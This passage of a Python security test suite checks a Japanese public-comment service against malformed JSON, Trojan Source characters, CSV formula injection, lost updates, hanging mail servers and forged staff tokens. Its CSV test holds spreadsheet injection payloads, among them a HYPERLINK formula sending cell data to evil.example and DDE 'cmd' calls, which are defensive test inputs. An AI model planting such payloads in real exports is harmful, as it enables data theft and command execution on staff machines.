    b'{"Type": "Notification", "TopicArn": "' + TOPIC.encode() + b'", "Timestamp": "x",'
    b' "SigningCertURL": "https://sns.ap-northeast-1.amazonaws.com/x.pem"}',
]


@pytest.mark.parametrize("app", ["publishing", "procedures"])
def test_json_of_the_wrong_shape_is_a_problem_never_a_server_error(stack, staff_token, app):
    client = Api(stack.apps[app].url)
    admin = bearer(staff_token(role="admin"))
    receipt = Api(stack.apps["publishing"].url).comment("open-one", valid()).json()
    comments = Api(stack.apps["publishing"].url).request("GET", LIST, headers=admin).json()
    comment = next(
        c for c in comments["comments"] if c["receipt_number"] == receipt["receipt_number"]
    )
    ids = {
        "consultation_id": "open-one",
        "comment_id": comment["id"],
        "reference": "ACEFGHJKMNPR",
        "number": "x",
        "payment_id": "x",
        "provider": "sandbox-card",
        "procedure_id": "sendai-sodai-gomi",  # the online form (its pages take forms only)
        "slug": "who",
    }
    answers = 0
    for path, methods in _routes(app).items():
        concrete = path.format(**ids)
        for method in set(methods) & {"POST", "PUT"}:
            for body in WRONG_SHAPES:
                for content_type in ("application/json", "text/plain"):
                    headers = {"Content-Type": content_type, "X-Forwarded-For": fresh_ip(), **admin}
                    reply = client.request(method, concrete, raw=body, headers=headers)
                    assert reply.status < 500, (method, concrete, body[:60], reply)
                    if reply.status >= 400:
                        assert reply.headers["content-type"].startswith(
                            "application/problem+json"
                        ), reply
                    answers += 1
    assert answers >= 3 * len(WRONG_SHAPES) * 2


def test_invisible_and_reordering_characters_never_reach_staff(api, staff_token):
    """Bidi controls reorder what staff read ("Trojan Source"); tag characters hide text."""
    sneaky = (
        "賛成です\u202e。すまし対反\u202c\u2066隠し\u2069\u061c"
        "\x85\x9b\U000e0041\U000e0042\u2028二行目\u2029三行目\u200b"
    )
    body = valid(name="宮城\u202e太郎\U000e0020")
    body["answers"]["q1"] = sneaky
    receipt = api.comment("open-one", body).json()["receipt_number"]
    comments = api.request("GET", LIST, headers=bearer(staff_token())).json()["comments"]
    mine = next(c for c in comments if c["receipt_number"] == receipt)
    assert mine["answers"]["q1"] == "賛成です。すまし対反隠し\n二行目\n三行目"
    assert mine["personal"]["name"] == "宮城太郎"


# ---------------------------------------------------------------- 8. CSV formula injection


def test_the_staff_export_never_hands_excel_a_formula(api, staff_token):
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    receipts = {}
    for formula in formulas:
        body = valid(name="=1+1", address="@住所")
        body["answers"]["q1"] = formula
        reply = api.comment("open-one", body)
        receipts[reply.json()["receipt_number"]] = formula
    export = api.request("GET", f"{LIST}/export.csv", headers=bearer(staff_token()))
    rows = list(csv.reader(io.StringIO(export.body.decode("utf-8-sig"))))
    header = rows[0]
    q1, name = header.index("案全体についてのご意見"), header.index("氏名（団体名）")
    mine = [row for row in rows[1:] if row[0] in receipts]
    assert len(mine) == len(formulas)
    for row in mine:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[q1].startswith("'") and row[name] == "'=1+1"
    # what staff read is still what the resident wrote (normalised), after the quote
    assert sorted(row[q1][1:] for row in mine) == sorted(normalize(f, True) for f in formulas)


# ---------------------------------------------------------------- 9. lost updates


def test_a_staff_change_without_the_version_read_is_refused(api, staff_token):
    receipt = api.comment("open-one", valid()).json()["receipt_number"]
    token = bearer(staff_token())
    comments = api.request("GET", LIST, headers=token).json()["comments"]
    mine = next(c for c in comments if c["receipt_number"] == receipt)
    path = f"{LIST}/{mine['id']}"
    for body in (
        {"hidden": True},
        {"hidden": True, "version": "1"},
        {"hidden": True, "version": True},
    ):
        data = problem(api.request("PUT", path + "/visibility", body, token), "validation", 422)
        assert data["errors"][0]["field"] == "version"
    problem(api.request("PUT", path + "/response", {"response": "回答"}, token), "validation", 422)
    assert (
        api.request("PUT", path + "/visibility", {"hidden": True, "version": 1}, token).status
        == 200
    )


def test_a_retry_after_closing_time_gets_its_receipt_not_a_conflict(api, stack):
    """Accepted at 16:59:50, the answer lost; the retry at 17:00:30 must find the receipt."""
    now = datetime.now(UTC)
    closing = Consultation(
        id=f"closing-{uuid.uuid4().hex[:6]}",
        title="まもなく締め切る意見募集",
        department="johoseisaku",
        url="/consultations/closing/",
        questions=(Question("q1", "ご意見"),),
        personal_fields={},
        opens_at=now - timedelta(days=1),
        closes_at=now + timedelta(seconds=3),
    )
    PublishingStore(stack.settings()).save_consultation(closing)
    key = {"Idempotency-Key": f"retry-{uuid.uuid4().hex}"}
    first = api.comment(closing.id, valid(), key)
    assert first.status == 201, first
    time.sleep(max(0.0, (closing.closes_at - datetime.now(UTC)).total_seconds()) + 0.5)
    problem(api.comment(closing.id, valid()), "not-open", 409)  # a new comment: closed
    retry = api.comment(closing.id, valid(), key)
    assert retry.status == 200, retry
    assert retry.headers["idempotent-replayed"] == "true"
    assert retry.json()["receipt_number"] == first.json()["receipt_number"]
    problem(
        api.comment(closing.id, valid(answers={"q1": "別の内容"}), key), "idempotency-conflict", 409
    )


# ---------------------------------------------------------------- 10. mail after commit


class SilentServer:
    """Accepts connections and never says a word: a mail service that hangs."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.held = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.held.append(connection)

    def close(self):
        for connection in self.held:
            connection.close()
        self.socket.close()


def test_a_hanging_mail_server_never_delays_an_accepted_comment(stack):
    silent = SilentServer()
    app = AppProcess(
        "publishing", {**stack.env(), "HIROBA_MAIL": f"smtp://127.0.0.1:{silent.port}"}
    )
    try:
        client = Api(app.start().url)
        # the same request without a copy to mail: what the machine takes anyway (a loaded
        # CI machine is slower for both), so only the mail's share is measured
        started = time.monotonic()
        assert client.comment("open-one", valid(email=address())).status == 201
        baseline = time.monotonic() - started
        started = time.monotonic()
        reply = client.comment("open-one", valid(email=address(), send_copy="yes"))
        elapsed = time.monotonic() - started
        assert reply.status == 201, reply
        # 2 s to connect and be greeted (mail.CONNECT_TIMEOUT), never the server's whim
        assert elapsed - baseline < 3.5, f"{elapsed:.1f} s against {baseline:.1f} s"
        assert len(silent.held) == 1
    finally:
        app.stop()
        silent.close()


def test_a_hanging_ses_endpoint_fails_the_mail_quickly(monkeypatch):
    silent = SilentServer()
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "local")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "local")
    try:
        settings = Settings(mail_transport="ses", ses_endpoint=f"http://127.0.0.1:{silent.port}")
        mailer = Mailer.from_settings(settings)
        started = time.monotonic()
        assert mailer.send("someone@example.jp", "件名", "本文") is False
        assert time.monotonic() - started < 5  # one attempt, 3 s to read
        assert len(silent.held) == 1  # no retry
    finally:
        silent.close()


# ---------------------------------------------------------------- 11. staff tokens


def test_production_staff_tokens_need_issuer_audience_id_token_and_groups(production, cognito):
    app = production["publishing"]
    origin = {"X-Hiroba-Origin-Verify": production["origin"]}

    def status(token):
        return app.request("GET", LIST, headers={**origin, **bearer(token)}).status

    assert status(cognito(["hiroba-staff-johoseisaku"])) == 200
    assert status(cognito(["hiroba-admin"])) == 200
    # roles a user can write through the app client (custom attributes) or claims the
    # pool never issues count for nothing
    assert (
        status(cognito(None, **{"custom:role": "admin", "custom:department": "johoseisaku"})) == 403
    )
    assert status(cognito([], role="admin", department="johoseisaku")) == 403
    assert status(cognito(["hiroba-staff-koho"])) == 403  # another department
    assert status(cognito(["hiroba-staff-koho", "hiroba-staff-johoseisaku"])) == 403
    assert status(cognito(["hiroba-admin"], aud=None)) == 401
    assert status(cognito(["hiroba-admin"], aud="another-client")) == 401
    assert status(cognito(["hiroba-admin"], iss="https://evil.example")) == 401
    assert status(cognito(["hiroba-admin"], token_use="access")) == 401
    assert status(cognito(["hiroba-admin"], token_use=None)) == 401
    # a development token (HS256) is worth nothing in production, whatever its key
    development = tokens.mint("j" * 40, "mallory", "admin", "johoseisaku")
    assert status(development) == 401


def test_secret_ids_and_stored_values_are_read_strictly():
    from hiroba_core import secrets_store

    assert secrets_store._parameter_name("ssm:/hiroba/secret") == "/hiroba/secret"
    arn = "arn:aws:ssm:ap-northeast-1:123456789012:parameter/hiroba/secret"
    assert secrets_store._parameter_name(arn) == "/hiroba/secret"
    assert secrets_store._parameter_name("hiroba/secret") is None  # Secrets Manager
    assert secrets_store.keys(" k1 ") == ("k1",)
    assert secrets_store.keys('{"current": "k2", "previous": ["k1"]}') == ("k2", "k1")
    for broken in ('{"current": 1}', '{"previous": []}', '{"current": "k", "previous": [1]}', "{"):
        with pytest.raises(secrets_store.SecretUnavailable):
            secrets_store.keys(broken)
